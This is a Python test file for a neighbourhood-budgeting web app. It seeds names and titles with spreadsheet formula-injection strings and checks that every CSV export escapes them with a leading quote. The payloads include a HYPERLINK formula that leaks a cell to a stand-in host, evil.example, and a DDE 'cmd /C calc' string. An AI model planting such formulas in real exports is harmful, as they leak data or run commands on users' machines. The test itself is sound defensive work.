"""Every CSV the application produces: no cell a spreadsheet would run as a formula.

Titles, names and labels that start with a formula character are put everywhere a CSV
takes text from; then every CSV route (and the CSVs inside the code ZIPs) is fetched.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from buurtbegroting import csvfile
from buurtbegroting.models import Cheque, CodeStatus, Role
from tests.factories import make_district, make_neighbourhood, make_plan, make_user
from tests.factories.accountability import funded_idea
from tests.factories.cheques import issue, make_campaign, make_collecting_idea
from tests.factories.rounds import make_round, put_on_ballot
from tests.jobs.support import download_result

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
BAD = [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1"]
#: The characters a cell may not start with (the check is independent of the module).
FORMULA = ("=", "+", "-", "@", "\t", "\r")
#: CSVs with only the application's own labels and figures.
FIXED_TEXT_ONLY = ("/statussen.csv", "/deelname.csv")


def _bad(i: int) -> str:
    return BAD[i % len(BAD)]


@pytest.fixture()
def poisoned(db):
    """A world whose every free text that ends up in a CSV starts with a formula character."""
    district = make_district(name=_bad(0))
    buurt = make_neighbourhood(district, name=_bad(1), postcodes=("5344",))
    make_plan(district, spearheads=(_bad(2), _bad(3)))
    author = make_user(display_name=_bad(4), area=buurt)
    # The public results of a round.
    round_ = make_round([(buurt, 1_000_000)], phase="counting")
    ra = round_.areas[0]
    items = put_on_ballot(ra, [300_000, 200_000, 100_000])
    for i, item in enumerate(items):
        item.idea.title = _bad(i)
    ra.result = {
        "explanation": {
            str(item.idea_id): {
                "score": 3 - i,
                "selected": i < 2,
                "step": i + 1 if i < 2 else None,
                "reason": _bad(i + 3),
            }
            for i, item in enumerate(items)
        }
    }
    now = datetime.now(UTC)
    round_.published_at = now
    # A round before voting, to download voting codes from.
    later = make_round([(buurt, 500_000)], phase="review", name=_bad(5))
    # The dashboard: funded ideas with poisoned titles.
    for i in range(3):
        funded_idea(buurt, author, title=_bad(i))
    # Cheques: a campaign with codes and an initiative, a fresh campaign to download.
    campaign = make_campaign(count=5, name=_bad(0))
    issue(campaign)
    initiative = make_collecting_idea(area=buurt, title=_bad(2))
    for cheque in db.session.scalars(select(Cheque).where(Cheque.campaign_id == campaign.id)):
        cheque.area_id = buurt.id
    cheque.status, cheque.idea_id, cheque.redeemed_at = CodeStatus.USED, initiative.id, now
    fresh = make_campaign(count=3, name=_bad(1))
    admin = make_user(role=Role.ADMIN, display_name=_bad(3))
    db.session.commit()
    return {
        "round": round_,
        "ra": ra,
        "later": later,
        "campaign": campaign,
        "fresh": fresh,
        "admin": admin,
    }


def _rows(text: str) -> list[list[str]]:
    text = text.removeprefix("\ufeff")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _csv_from_zip(data: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(data))
    (name,) = [n for n in archive.namelist() if n.endswith(".csv")]
    return archive.read(name).decode("utf-8")


def _every_csv(client, login, world) -> dict[str, str]:
    login(world["admin"])
    found = {}
    url = f"/rondes/{world['round'].id}/uitslag/{world['ra'].id}.csv"
    found[url] = client.get(url)
    for name in ("speerpunten", "gebieden", "statussen", "deelname", "verantwoording"):
        url = f"/dashboard/{name}.csv"
        found[url] = client.get(url)
    url = f"/beheer/cheques/{world['campaign'].id}/statistieken.csv"
    found[url] = client.get(url)
    texts = {}
    for url, response in found.items():
        assert response.status_code == 200, url
        assert response.mimetype == "text/csv", url
        texts[url] = response.get_data(as_text=True)
    url = f"/beheer/cheques/{world['fresh'].id}/codes"
    response = download_result(client, client.post(url))
    assert response.status_code == 200, url
    texts[url] = _csv_from_zip(response.data)
    later = world["later"]
    url = f"/beheer/rondes/{later.id}/codes"
    response = download_result(
        client, client.post(url, data={"round_area_id": later.areas[0].id, "count": "3"})
    )
    assert response.status_code == 200, url
    texts[url] = _csv_from_zip(response.data)
    return texts


def test_no_csv_cell_starts_with_a_formula_character(client, login, poisoned):
    texts = _every_csv(client, login, poisoned)
    for url, text in texts.items():
        cells = [c for row in _rows(text) for c in row]
        assert cells, url
        bad = [c for c in cells if c.startswith(FORMULA)]
        assert not bad, (url, bad)
        if url.endswith(FIXED_TEXT_ONLY):
            continue
        # The poisoned text is there, made harmless (not left out).
        assert any(c.startswith("'") and c[1:] in BAD for c in cells), url


def test_every_csv_route_is_covered(app):
    """A new CSV route must be added to the test above."""
    csv_routes = sorted(r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv"))
    assert csv_routes == [
        "/beheer/cheques/<int:campaign_id>/statistieken.csv",
        "/dashboard/<name>.csv",
        "/rondes/<int:round_id>/uitslag/<int:round_area_id>.csv",
    ]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Speeltuin", "Speeltuin"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (2.5, 2.5),
    ],
)
def test_cell_quotes_formula_text_and_keeps_numbers(value, written):
    assert csvfile.cell(value) == written
